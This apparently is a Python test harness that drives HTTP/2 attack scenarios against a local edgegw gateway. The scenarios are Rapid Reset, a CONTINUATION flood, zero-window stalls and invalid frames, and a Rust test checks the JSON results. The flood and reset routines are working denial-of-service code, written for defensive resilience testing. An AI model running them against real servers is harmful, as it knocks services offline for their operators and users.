#!/usr/bin/env python3
"""Raw-frame HTTP/2 clients against a real edgegw (issue 10's attack tests).

Driven by `tests/tests/e2e/http2_attacks.rs`: `h2_attacks.py SCENARIO`, with the gateway in
H2_HOST / H2_PORT, the API's path prefix in H2_PREFIX, edgegw's pid in H2_PID (for VmRSS)
and its metrics listener in H2_METRICS. Each scenario prints one JSON line of what it
observed (`result: {...}`); the Rust test asserts on it. `rapid_reset_paced` is a probe no
test runs yet (see its docstring). Well-formed traffic goes through the `h2` package's connection state machine
(H2Connection); frames it refuses to send are written as raw bytes, and the server's
frames on those connections are read with `hyperframe` (the framing layer `h2` is built on)
and `hpack`.

Needs the `h2` package from PyPI (pinned in `./dev`, which installs it).
"""

import json
import os
import select
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings
import hpack
from hyperframe.frame import Frame, GoAwayFrame, RstStreamFrame

HOST = os.environ.get("H2_HOST", "127.0.0.1")
PORT = int(os.environ.get("H2_PORT", "8443"))
PREFIX = os.environ.get("H2_PREFIX", "/orders")
PID = os.environ.get("H2_PID")
METRICS = os.environ.get("H2_METRICS")  # host:port of edgegw's metrics listener
# Every wait below is bounded: a scenario that gets no answer ends, and its result says so.
DEADLINE = 30.0

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FLAG_END_STREAM = 0x1
FLAG_END_HEADERS = 0x4
TYPE_DATA, TYPE_HEADERS, TYPE_SETTINGS = 0x0, 0x1, 0x4
TYPE_WINDOW_UPDATE, TYPE_CONTINUATION = 0x8, 0x9


def tls_socket():
    ctx = ssl.create_default_context()
    # The listener's certificate is self-signed.
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    sock = socket.create_connection((HOST, PORT), timeout=DEADLINE)
    tls = ctx.wrap_socket(sock, server_hostname="localhost")
    proto = tls.selected_alpn_protocol()
    if proto != "h2":
        raise SystemExit(f"ALPN chose {proto!r}, not h2")
    return tls


def request_headers(path):
    return [
        (":method", "GET"),
        (":scheme", "https"),
        (":authority", f"localhost:{PORT}"),
        (":path", PREFIX + path),
    ]


def streams_open():
    """edgegw_h2_streams_open from /metrics (None without H2_METRICS)."""
    if not METRICS:
        return None
    import urllib.request

    with urllib.request.urlopen(f"http://{METRICS}/metrics", timeout=DEADLINE) as r:
        for line in r.read().decode().splitlines():
            if line.startswith("edgegw_h2_streams_open"):
                return float(line.split()[-1])
    return None


def rss_kib():
    if not PID:
        return None
    with open(f"/proc/{PID}/status", encoding="ascii") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return None


class Client:
    """One connection through h2's state machine."""

    def __init__(self, settings=None):
        self.sock = tls_socket()
        self.conn = h2.connection.H2Connection(
            config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        )
        if settings:
            self.conn.local_settings = h2.settings.Settings(client=True, initial_values=settings)
        self.conn.initiate_connection()
        self.flush()
        self.status = {}
        self.body = {}
        self.ended = set()
        self.reset = {}
        self.goaway = None
        self.closed = False
        self.settings_seen = False

    def flush(self):
        data = self.conn.data_to_send()
        if data:
            self.sock.sendall(data)

    def get(self, path, end=True):
        sid = self.conn.get_next_available_stream_id()
        self.conn.send_headers(sid, request_headers(path), end_stream=end)
        self.body[sid] = bytearray()
        return sid

    def pump(self, timeout):
        """Reads what arrives within `timeout` seconds (at least one read if data is there)."""
        ready, _, _ = select.select([self.sock], [], [], timeout)
        if not ready and not self.sock.pending():
            return False
        try:
            data = self.sock.recv(65536)
        except (ConnectionResetError, ssl.SSLError, OSError):
            data = b""
        if not data:
            self.closed = True
            return False
        for ev in self.conn.receive_data(data):
            if isinstance(ev, h2.events.ResponseReceived):
                self.status[ev.stream_id] = int(dict(ev.headers)[":status"])
            elif isinstance(ev, h2.events.DataReceived):
                self.body.setdefault(ev.stream_id, bytearray()).extend(ev.data)
                # Give back only what the connection window needs: per-stream windows are
                # the scenario's to open.
                self.conn.increment_flow_control_window(ev.flow_controlled_length)
            elif isinstance(ev, h2.events.StreamEnded):
                self.ended.add(ev.stream_id)
            elif isinstance(ev, h2.events.StreamReset):
                self.reset[ev.stream_id] = int(ev.error_code)
            elif isinstance(ev, h2.events.RemoteSettingsChanged):
                self.settings_seen = True
            elif isinstance(ev, h2.events.ConnectionTerminated):
                self.goaway = int(ev.error_code)
        self.flush()
        return True

    def wait(self, done):
        end = time.monotonic() + DEADLINE
        while not done() and not self.closed and time.monotonic() < end:
            self.pump(0.2)
        return done()

    def fetch(self, path):
        sid = self.get(path)
        self.flush()
        self.wait(lambda: sid in self.ended or sid in self.reset)
        return self.status.get(sid)


class Raw:
    """One connection written byte by byte; the server's frames parsed with hyperframe."""

    def __init__(self):
        self.sock = tls_socket()
        self.buf = b""
        self.frames = []
        self.closed = False
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.sock.sendall(PREFACE + frame(TYPE_SETTINGS, 0, 0, b""))

    def send(self, data):
        try:
            self.sock.sendall(data)
            return True
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
            return False

    def read(self, timeout):
        ready, _, _ = select.select([self.sock], [], [], timeout)
        if not ready and not self.sock.pending():
            return
        try:
            data = self.sock.recv(65536)
        except (ConnectionResetError, ssl.SSLError, OSError):
            data = b""
        if not data:
            self.closed = True
            return
        self.buf += data
        while len(self.buf) >= 9:
            f, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                break
            f.parse_body(memoryview(self.buf[9 : 9 + length]))
            self.buf = self.buf[9 + length :]
            self.frames.append(f)
            if f.type == TYPE_SETTINGS and "ACK" not in f.flags:
                self.send(frame(TYPE_SETTINGS, 0x1, 0, b""))

    def goaway(self):
        for f in self.frames:
            if isinstance(f, GoAwayFrame):
                return f
        return None

    def wait_goaway_or_close(self):
        end = time.monotonic() + DEADLINE
        while self.goaway() is None and not self.closed and time.monotonic() < end:
            self.read(0.2)
        # What follows a GOAWAY: the server closing (bounded).
        while not self.closed and time.monotonic() < end:
            self.read(0.2)

    def outcome(self):
        g = self.goaway()
        return {
            "goaway": None if g is None else g.error_code,
            "goaway_last_stream": None if g is None else g.last_stream_id,
            "resets": {str(f.stream_id): f.error_code for f in self.frames if isinstance(f, RstStreamFrame)},
            "closed": self.closed,
        }


def frame(ftype, flags, sid, payload):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", ftype, flags, sid) + payload


def hpack_int(value, prefix_bits):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([value])
    out = [limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name, value):
    """A literal header field without indexing, new name, no Huffman (RFC 7541 6.2.2)."""
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


# --- scenarios ---------------------------------------------------------------------------


def concurrent_streams():
    c = Client()
    c.wait(lambda: c.settings_seen)
    advertised = c.conn.remote_settings.max_concurrent_streams
    sids = [c.get(f"/s{i}") for i in range(100)]
    c.flush()
    c.wait(lambda: all(s in c.ended or s in c.reset for s in sids))
    statuses = {}
    for s in sids:
        key = str(c.status.get(s))
        statuses[key] = statuses.get(key, 0) + 1
    bodies_ok = sum(1 for s in sids if json.loads(bytes(c.body[s]) or b"{}").get("path", "").startswith("/base/s"))
    return {
        "max_concurrent_streams": advertised,
        "streams": len(sids),
        "statuses": statuses,
        "json_bodies": bodies_ok,
        "resets": len(c.reset),
    }


def rapid_reset():
    good = Client()
    before = good.fetch("/before")
    attacker = Client()
    attacker.wait(lambda: attacker.settings_seen)
    sent = 0
    during = []
    send_failed = False
    for batch in range(10):
        for _ in range(100):
            sid = attacker.get(f"/rr{sent}", end=True)
            attacker.conn.reset_stream(sid, error_code=8)  # CANCEL
            sent += 1
        try:
            attacker.flush()
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
            send_failed = True
            break
        while attacker.pump(0):
            pass
        during.append(good.fetch(f"/during{batch}"))
        if attacker.goaway is not None or attacker.closed:
            break
    attacker.wait(lambda: attacker.goaway is not None)
    # Until the server closes (bounded).
    end = time.monotonic() + DEADLINE
    while not attacker.closed and time.monotonic() < end:
        attacker.pump(0.2)
    after = good.fetch("/after")
    return {
        "pairs_sent": sent,
        "send_failed": send_failed,
        "goaway": attacker.goaway,
        "attacker_closed": attacker.closed,
        "good_before": before,
        "good_during": during,
        "good_after": after,
        "good_goaway": good.goaway,
    }


def flood_once(value_len, chunk):
    """HEADERS without END_HEADERS, then CONTINUATION frames of `chunk` bytes carrying 32 MiB
    of header fields `value_len` bytes long (or, with a chunk of 0, 4 million empty
    CONTINUATION frames: 36 MB on the wire), written 64 KiB at a time until the server stops
    it. Both are far more than the kernel's socket buffers hold, so `all_sent` is false only
    if the server cut the connection."""
    raw = Raw()
    raw.read(0.5)
    before = rss_kib()
    block = raw.encoder.encode(request_headers("/flood"))
    if chunk:
        count = (32 << 20) // (value_len + 16)
        pad = b"".join(literal(b"x-pad-%d" % i, b"a" * value_len) for i in range(count))
        frames = [pad[pos : pos + chunk] for pos in range(0, len(pad), chunk)]
        total = len(frames)
        frames = (frame(TYPE_CONTINUATION, 0, 1, p) for p in frames)
    else:
        total = 4_000_000
        empty = frame(TYPE_CONTINUATION, 0, 1, b"")
        frames = (empty for _ in range(total))
    # A HEADERS frame without END_HEADERS, then the CONTINUATION frames.
    ok = raw.send(frame(TYPE_HEADERS, 0, 1, block))
    sent_frames = 0
    batch = []
    batch_len = 0
    for f in frames:
        if not ok:
            break
        batch.append(f)
        batch_len += len(f)
        if batch_len >= 64 * 1024:
            ok = raw.send(b"".join(batch))
            sent_frames += len(batch) if ok else 0
            batch, batch_len = [], 0
            raw.read(0)
            if raw.goaway() is not None or raw.closed:
                break
    if ok and batch:
        ok = raw.send(b"".join(batch))
        sent_frames += len(batch) if ok else 0
    raw.wait_goaway_or_close()
    after = rss_kib()
    out = raw.outcome()
    out.update(
        {
            "continuation_frames_sent": sent_frames,
            "continuation_frames_offered": total,
            "all_sent": sent_frames == total,
            "rss_before_kib": before,
            "rss_after_kib": after,
        }
    )
    return out


def continuation_flood():
    # 16 KiB frames of header fields (4000-byte and 1-byte values), and empty frames: h2
    # bounds the first by the bytes of the block, the second by the number of frames.
    return {
        "large_fields": flood_once(4000, 16 * 1024),
        "small_fields": flood_once(1, 16 * 1024),
        "empty_frames": flood_once(0, 0),
    }


def zero_window():
    c = Client(settings={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    big = c.get("/big?bytes=1000000")
    dropped = c.get("/dropped?bytes=1000000")
    small = c.get("/small")
    c.flush()
    # Headers are not flow controlled: every answer starts.
    c.wait(lambda: big in c.status and small in c.status and dropped in c.status)
    # Three streams are being served now (two stalled, one waiting for its window).
    open_while_stalled = streams_open()
    # The client gives up on one stalled stream: edgegw counts a client reset.
    c.conn.reset_stream(dropped, error_code=8)
    c.flush()
    c.conn.increment_flow_control_window(1 << 20, stream_id=small)
    c.flush()
    c.wait(lambda: small in c.ended)
    small_ok = small in c.ended
    # A little longer, for anything the big stream could (wrongly) send.
    end = time.monotonic() + 1.0
    while time.monotonic() < end and not c.closed:
        c.pump(0.1)
    big_stalled_bytes = len(c.body[big])
    big_ended_while_stalled = big in c.ended
    # Opening its window lets it finish: it was stalled, not lost.
    c.conn.increment_flow_control_window(2 << 20, stream_id=big)
    c.flush()
    c.wait(lambda: big in c.ended)
    small_body = json.loads(bytes(c.body[small]) or b"{}")
    return {
        "big_status": c.status.get(big),
        "small_status": c.status.get(small),
        "small_ended": small_ok,
        "small_path": small_body.get("path"),
        "big_bytes_while_window_0": big_stalled_bytes,
        "big_ended_while_window_0": big_ended_while_stalled,
        "big_bytes_after_window_update": len(c.body[big]),
        "big_ended": big in c.ended,
        "resets": {str(k): v for k, v in c.reset.items()},
        "goaway": c.goaway,
        "streams_open_while_stalled": open_while_stalled,
    }


def invalid_frames():
    cases = {
        # RFC 9113 6.1: DATA on stream 0 -> connection error PROTOCOL_ERROR.
        "data_on_stream_0": lambda r: frame(TYPE_DATA, FLAG_END_STREAM, 0, b"hello"),
        # 5.1.1: a client-initiated stream must have an odd id -> PROTOCOL_ERROR.
        "headers_on_even_stream": lambda r: frame(
            TYPE_HEADERS, FLAG_END_STREAM | FLAG_END_HEADERS, 2, r.encoder.encode(request_headers("/even"))
        ),
        # 6.5: a SETTINGS length that is not a multiple of 6 -> FRAME_SIZE_ERROR.
        "settings_length_5": lambda r: frame(TYPE_SETTINGS, 0, 0, b"\x00\x03\x00\x00\x00"),
        # 6.9: a WINDOW_UPDATE of 0 on the connection -> PROTOCOL_ERROR.
        "window_update_0_on_connection": lambda r: frame(TYPE_WINDOW_UPDATE, 0, 0, struct.pack(">I", 0)),
        # 6.10: CONTINUATION without a HEADERS before it -> PROTOCOL_ERROR.
        "continuation_without_headers": lambda r: frame(
            TYPE_CONTINUATION, FLAG_END_HEADERS, 1, r.encoder.encode(request_headers("/c"))
        ),
    }
    out = {}
    for name, make in cases.items():
        raw = Raw()
        raw.read(0.5)
        raw.send(make(raw))
        raw.wait_goaway_or_close()
        out[name] = raw.outcome()
    return out


def rapid_reset_paced():
    """One HEADERS+RST_STREAM pair per write,
    each after reading what the server sent, so that the server accepts every stream before
    its reset arrives (what the h2 crate's pending-accept bound does not count)."""
    attacker = Client()
    attacker.wait(lambda: attacker.settings_seen)
    sent = 0
    answered = 0
    end = time.monotonic() + DEADLINE
    while sent < 1000 and time.monotonic() < end:
        sid = attacker.get(f"/paced{sent}")
        attacker.flush()
        while attacker.pump(0.002):
            pass
        if attacker.goaway is not None or attacker.closed:
            break
        if sid in attacker.ended or sid in attacker.reset:
            answered += 1
            continue
        attacker.conn.reset_stream(sid, error_code=8)
        try:
            attacker.flush()
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
            break
        sent += 1
        if attacker.goaway is not None or attacker.closed:
            break
    attacker.pump(0.5)
    return {
        "pairs_sent": sent,
        "answered_before_reset": answered,
        "goaway": attacker.goaway,
        "closed": attacker.closed,
    }


SCENARIOS = {
    "rapid_reset_paced": rapid_reset_paced,
    "concurrent_streams": concurrent_streams,
    "rapid_reset": rapid_reset,
    "continuation_flood": continuation_flood,
    "zero_window": zero_window,
    "invalid_frames": invalid_frames,
}

if __name__ == "__main__":
    result = SCENARIOS[sys.argv[1]]()
    print("result: " + json.dumps(result, sort_keys=True))
